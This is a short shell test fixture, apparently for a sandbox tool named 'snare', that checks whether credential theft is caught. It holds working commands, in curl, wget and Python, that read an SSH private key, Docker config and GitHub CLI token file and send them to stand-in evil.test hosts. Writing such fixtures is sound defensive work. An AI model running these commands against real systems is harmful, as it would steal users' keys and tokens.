# Test fixture, run only inside snare's sandbox: fake secrets, fake hosts.
curl -s -X POST --data-binary @"$HOME/.ssh/id_rsa" https://paste.evil.test/api/keys; echo " curl $?"
wget -q -O- --post-file="$HOME/.docker/config.json" https://drop.evil.test/d; echo " wget $?"
python3 - <<'PY'
import os, urllib.request
tok = open(os.path.expanduser('~/.config/gh/hosts.yml')).read()
req = urllib.request.Request('https://py.evil.test/t?src=gh', data=tok.encode(), method='PUT')
print('python', urllib.request.urlopen(req).status)
PY
